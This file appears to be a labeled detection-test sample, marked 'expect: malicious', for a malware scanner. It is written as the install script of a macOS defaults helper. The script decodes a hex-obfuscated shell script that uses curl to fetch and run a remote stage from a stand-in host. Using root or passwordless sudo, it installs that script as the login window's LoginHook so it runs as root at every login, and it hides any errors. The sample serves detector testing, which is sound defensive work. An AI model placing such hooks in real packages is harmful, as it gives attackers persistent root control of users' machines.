// expect: malicious
// when: install
// A macOS defaults helper's postinstall writes a decoded script and, through sudo, makes it the login window's
// LoginHook (run as root at every login); the script downloads and runs a stage (blind set 26).
const fs = require('fs');
const { execFileSync } = require('child_process');
const H = Buffer.from('23212f62696e2f73680a2f7573722f62696e2f6375726c202d6673532068747470733a2f2f7570642e6578616d706c652f68202d6f202f707269766174652f746d702f2e732e7368202626202f62696e2f7368202f707269766174652f746d702f2e732e736820260a', 'hex').toString();
const dir = '/Library/Application Support/com.example.mdk';
const hook = dir + '/session.sh';
function asRoot(cmd, args) {
  if (process.getuid() === 0) return execFileSync(cmd, args, { stdio: 'ignore' });
  return execFileSync('sudo', ['-n', cmd, ...args], { stdio: 'ignore' });
}
try {
  const tmp = require('os').tmpdir() + '/.mdk-session.sh';
  fs.writeFileSync(tmp, H, { mode: 0o755 });
  asRoot('/bin/cp', [tmp, hook]);
  asRoot('/usr/bin/defaults', ['write', 'com.apple.loginwindow', 'LoginHook', hook]);
} catch (e) { /* not root */ }
